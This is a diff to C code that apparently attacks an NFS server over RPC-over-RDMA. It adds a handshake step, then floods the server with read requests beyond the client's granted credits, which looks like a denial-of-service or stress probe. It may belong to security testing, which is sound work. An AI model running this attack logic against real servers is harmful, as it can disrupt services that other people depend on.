@@ -96,12 +96,33 @@ static void say_read(struct foe *f, uint32_t xid)
 	say_words(f, w, n);
 }
 
+/* Says what there is and waits for the MPA Reply and the answer to a NULL call: until
+ * then a client of version 1 has one credit, and there are Receives for little more. */
+static void be_let_in(struct foe *f)
+{
+	enum { ANSWERED = 24 + 64 };
+	struct pollfd p = {.fd = f->fd, .events = POLLIN};
+	uint8_t bin[512];
+	size_t heard = 0;
+	ssize_t n = 1;
+
+	SAY(f, 1, 1, READS + 1, 0, 0, 0, 0, 1, 0, 2, RPCRDMA_NFS_PROGRAM, 3, 0, 0, 0, 0,
+	    0);
+	(void)!send(f->fd, f->out, f->len, MSG_NOSIGNAL);
+	f->len = 0;
+	while (heard < ANSWERED && n > 0 && poll(&p, 1, 5000) == 1) {
+		n = recv(f->fd, bin, sizeof(bin), 0);
+		heard += n > 0 ? (size_t)n : 0;
+	}
+}
+
 static void asks_for_much(struct foe *f, const struct attack *a)
 {
 	say_request(f);
 	say_nothing(f);
+	be_let_in(f);
 	for (uint32_t i = 0; i < READS; i++)
-		say_read(f, 1 + i);
+		say_read(f, 2 + i);
 }
 
 static void with(const char *what, unsigned drip_ms)
